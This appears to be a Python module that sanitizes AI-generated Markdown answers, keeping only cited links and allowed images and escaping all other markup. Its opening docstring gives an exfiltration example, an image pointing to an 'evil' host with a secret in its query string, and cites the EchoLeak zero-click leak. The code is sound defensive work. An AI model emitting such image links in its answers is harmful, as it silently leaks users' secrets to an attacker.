"""The answer as Markdown that is safe to show: pictures of our own, links to what is cited, and no raw HTML.

Whoever shows an answer may fetch what it links to: a picture ``![x](http://evil/?d=SECRET)`` tells a secret without a
click (EchoLeak, CVE-2025-32711). So the answer is parsed (CommonMark), and written anew from what may stay; what may
not becomes its text. In the text nothing is left that this or a laxer parser could take for a picture, link or tag.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Sequence
from itertools import takewhile
from typing import TYPE_CHECKING

from foveal.hidden import visible

if TYPE_CHECKING:
    from markdown_it.token import Token

_SPECIAL = re.compile(r"[<&\\`]|!\[|\](?:[(:]|\s*\[(?!\d+\]))|~~~|://|\bwww\.", re.I)
_BARE = re.compile(r"(?:\b[a-z][a-z0-9+.-]*:(?=//)|(?<![\w/])www\.)[^\s<>`]*", re.I)
_MARK = re.compile(r"(?<!!)\[\d+\](?![(:])")
_LIVE = re.compile(r"[\[\]`\\]|<(?![\s\d=])|&(?=#|\w+;)|~(?=~~)|!(?=\[)", re.I)
_WRAPPED = ("em_open", "em_close", "strong_open", "strong_close")


def safe_markdown(text: str, *, links: Iterable[str] = (), pictures: Iterable[str] = ()) -> str:
    """Return *text* with no link but to *links* (http and https) and no picture but of *pictures*, as they are given.

    Text without markup comes back as it is, but for hidden characters.
    """
    text = visible(text)
    if is_plain(text):
        return text
    from markdown_it import MarkdownIt
    from markdown_it.common.normalize_url import normalizeLink

    parser = MarkdownIt("commonmark").disable("html_block")  # so that its text is not lost with its tags
    allowed = frozenset(normalizeLink(link) for link in links if re.match(r"https?://", link, re.I))
    writer = _Writer(allowed, frozenset(map(normalizeLink, pictures)))
    return writer.blocks(parser.parse(text))


def is_plain(text: str) -> bool:
    """Say whether *text* has no picture, link, tag, escape or code in it, whoever reads it."""
    return not _SPECIAL.search(text)


class _Writer:
    """Writes the tokens of a parsed text as Markdown again."""

    def __init__(self, links: frozenset[str], pictures: frozenset[str]) -> None:
        self._links = links
        self._pictures = pictures

    def blocks(self, tokens: Sequence[Token]) -> str:
        """Return the blocks, an empty line between two; those of a list or quotation behind its marks."""
        told: list[str] = []
        first: list[str] = []  # marks before the next line of what is open, and before those that follow it
        after: list[str] = []
        shared = 0  # so much of what is open was so at the last block too
        tight = close = False
        for token in tokens:
            if token.type in ("list_item_open", "blockquote_open", "heading_open"):
                kind = token.tag
                mark = "> " if kind == "blockquote" else f"{token.info}{token.markup} "
                mark = "#" * int(kind[1]) + " " if kind[0] == "h" else mark
                first.append(mark)
                after.append({"blockquote": mark, "li": " " * len(mark)}.get(kind, ""))
            elif token.type in ("list_item_close", "blockquote_close", "heading_close"):
                first.pop()
                after.pop()
                shared = min(shared, len(after))
            elif token.type == "paragraph_open":
                close = token.hidden
            elif token.type in ("inline", "fence", "code_block", "hr"):
                if told and not (tight and close):
                    told.append("".join(after[:shared]).rstrip())
                for line in self._lines(token):
                    told.append(("".join(first) + line).rstrip())
                    first[:] = after
                shared, tight, close = len(after), close, False
        return "\n".join(told).strip("\n")

    def _lines(self, token: Token) -> list[str]:
        if token.type == "hr":
            return ["---"]
        if token.type == "inline":
            return [line.strip() for line in self._inline(token.children or ()).split("\n")]
        fence = "`" * max(3, 1 + max(map(len, re.findall(r"`+", token.content)), default=0))
        return [fence, *token.content.rstrip("\n").split("\n"), fence]

    def _inline(self, tokens: Sequence[Token]) -> str:
        """Return what a line says; texts between which something was left out are one before they are looked at."""
        told, text = "", ""
        for piece, written in self._pieces(iter(tokens)):
            if written:
                told, text = _joined(_joined(told, self._plain(text)), piece), ""
            else:
                text += piece
        return _joined(told, self._plain(text))

    def _pieces(self, tokens: Iterator[Token]) -> Iterator[tuple[str, bool]]:
        """Yield texts, and what is Markdown already (True)."""
        for token in tokens:
            if token.type == "text":
                yield token.content, False
            elif token.type in ("softbreak", "hardbreak"):
                yield "\n", True
            elif token.type == "code_inline":
                yield _code(token.content), True
            elif token.type in _WRAPPED:
                yield token.markup, True
            elif token.type == "image":
                said, source = token.children or [], token.attrGet("src")
                if source in self._pictures:
                    yield f"![{self._inline(said)}](<{source}>)", True
                else:
                    yield from self._pieces(iter(said))
            elif token.type == "link_open":
                said, target = list(takewhile(lambda t: t.type != "link_close", tokens)), token.attrGet("href")
                if target in self._links:
                    yield f"[{self._inline(said)}](<{target}>)", True
                else:
                    yield from self._pieces(iter(said))

    def _plain(self, text: str) -> str:
        """Return *text* so that no parser finds anything in it; a bare address that is not cited becomes code."""
        told, at = "", 0
        for bare in _BARE.finditer(text):
            address = bare[0].rstrip(".,;:!?'\")]*_")
            told += _escaped(text[at : bare.start()])
            told = _joined(told, address if self._cited(address) else _code(address))
            at = bare.start() + len(address)
        return told + _escaped(text[at:])

    def _cited(self, address: str) -> bool:
        from markdown_it.common.normalize_url import normalizeLink

        return normalizeLink(address) in self._links and not _LIVE.search(address)


def _joined(before: str, after: str) -> str:
    """Return both as one line in which neither changes what the other is: two pieces of code, "!" before a link."""
    if before.endswith("!") and after.startswith("["):
        before = f"{before[:-1]}\\!"
    return f"{before}{' ' if before.endswith('`') and after.startswith('`') else ''}{after}"


def _escaped(text: str) -> str:
    """Return *text* with a backslash before what could be markup; marks of citations are none."""
    parts = []
    at = 0
    for mark in _MARK.finditer(text):
        parts += [_LIVE.sub(r"\\\g<0>", text[at : mark.start()]), mark[0]]
        at = mark.end()
    return "".join([*parts, _LIVE.sub(r"\\\g<0>", text[at:])])


def _code(text: str) -> str:
    """Return *text* as a code span."""
    fence = "`" * (1 + max(map(len, re.findall(r"`+", text)), default=0))
    space = " " if text[:1] in ("`", " ") or text[-1:] in ("`", " ") else ""
    return f"{fence}{space}{text}{space}{fence}"
